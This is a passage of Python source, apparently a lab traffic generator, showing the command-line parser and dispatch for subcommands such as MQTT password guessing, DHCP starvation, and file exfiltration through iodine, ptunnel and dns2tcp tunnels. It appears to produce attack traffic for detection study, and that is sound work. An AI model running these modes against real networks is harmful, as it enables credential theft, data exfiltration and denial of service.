    d.add_argument("--dns", help="server,name1,name2,...")
    d.add_argument("--ftp", help="host,user,password")
    d.add_argument("--ping", nargs="*", default=[])
    d.add_argument("--telnet", help="host,user,password")
    d.add_argument("--run", action="append", default=[], metavar="PERIOD|ARGV",
                   help="run this command (shlex-split, no shell) at random intervals of mean PERIOD seconds")
    d.add_argument("--run-timeout", type=float, default=60.0)
    g = sub.add_parser("guess-mqtt")
    g.add_argument("--host", required=True)
    g.add_argument("--user", required=True)
    g.add_argument("--passwords", required=True)
    g.add_argument("--max", type=int, default=60)
    g.add_argument("--pause", type=float, default=0.1)
    t = sub.add_parser("dig-tunnel")
    t.add_argument("--server", required=True)
    t.add_argument("--zone", required=True)
    t.add_argument("--qtype", default="TXT")
    t.add_argument("--queries", type=int, default=200)
    t.add_argument("--batch", type=int, default=10)
    t.add_argument("--pause", type=float, default=0.3)
    t.add_argument("--seed", type=int, default=0)
    i = sub.add_parser("iodine-exfil")
    i.add_argument("--resolver", required=True)
    i.add_argument("--zone", required=True)
    i.add_argument("--password", required=True)
    i.add_argument("--peer", required=True, help="iodined's tunnel address")
    i.add_argument("--pings", type=int, default=40)
    i.add_argument("--size", type=int, default=400)
    i.add_argument("--setup-timeout", type=float, default=25.0)
    i.add_argument("--fragsize", type=int, default=600)
    i.add_argument("--qtype", default="NULL", choices=("NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A"))
    pa = sub.add_parser("pair")
    pa.add_argument("--role", choices=("device", "app"), required=True)
    pa.add_argument("--name", default="plug")
    pa.add_argument("--ip", required=True, help="own lab address (multicast goes out of its interface)")
    pa.add_argument("--device", default="", help="app: the device's address")
    pa.add_argument("--rounds", type=int, default=3)
    pa.add_argument("--seed", type=int, default=0)
    ds = sub.add_parser("dhcp-starve")
    ds.add_argument("--iface", default="eth0")
    ds.add_argument("--count", type=int, default=200)
    ds.add_argument("--pause", type=float, default=0.01)
    ds.add_argument("--max-seconds", type=float, default=60.0)
    ds.add_argument("--seed", type=int, default=0)
    pt = sub.add_parser("ptunnel-exfil")
    pt.add_argument("--proxy", required=True)
    pt.add_argument("--file", required=True)
    pt.add_argument("--dest", required=True)
    pt.add_argument("--dest-port", type=int, default=8080)
    pt.add_argument("--local-port", type=int, default=8000)
    pt.add_argument("--max-seconds", type=float, default=30.0)
    dt = sub.add_parser("dns2tcp-exfil")
    dt.add_argument("--resolver", required=True)
    dt.add_argument("--zone", required=True)
    dt.add_argument("--key", required=True)
    dt.add_argument("--resource", default="upload")
    dt.add_argument("--file", required=True)
    dt.add_argument("--qtype", default="TXT", choices=("TXT", "KEY"))
    dt.add_argument("--local-port", type=int, default=8001)
    dt.add_argument("--max-seconds", type=float, default=30.0)
    args = p.parse_args(argv)
    if args.cmd == "dns2tcp-exfil":
        return dns2tcp_exfil(args)
    if args.cmd == "dhcp-starve":
        return dhcp_starve(args)
    if args.cmd == "ptunnel-exfil":
        return ptunnel_exfil(args)
    if args.cmd == "pair":
        return pair(args)
    if args.cmd == "guess-mqtt":
        return guess_mqtt(args)
    if args.cmd == "dig-tunnel":
        return dig_tunnel(args)
    if args.cmd == "iodine-exfil":
        return iodine_exfil(args)
    if args.cmd == "serve":
        asyncio.run(serve(args))
        return 0
    return drive(args)


if __name__ == "__main__":
    try:
        sys.exit(main())
    except KeyboardInterrupt:  # the recorder's `timeout --signal=INT` ended a bounded window
        sys.exit(130)
